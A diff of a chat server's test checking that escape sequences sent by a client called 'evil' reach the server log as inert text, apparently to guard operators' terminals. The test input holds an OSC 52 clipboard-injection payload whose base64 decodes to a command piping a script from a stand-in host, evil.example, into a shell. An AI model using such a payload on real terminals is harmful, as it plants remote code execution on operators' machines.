@@ -316,7 +316,7 @@ async def test_the_server_log_carries_no_escape_sequence_to_the_operators_termin
         await evil.send(f"PART #lobby :see{OSC52} you{CSI} later\u202e")
         # What is left of a sequence is inert text: the log shows someone tried.
         assert (await log_line("evil left #lobby")).endswith(
-            "chinwag.server: evil left #lobby (see]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g= you[2J[31m later)"
+            ": evil left #lobby (see]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g= you[2J[31m later)"
         )
         await evil.send(f"QUIT :gone{OSC52}\x9b2J")
         assert (await log_line("evil left (")).endswith(
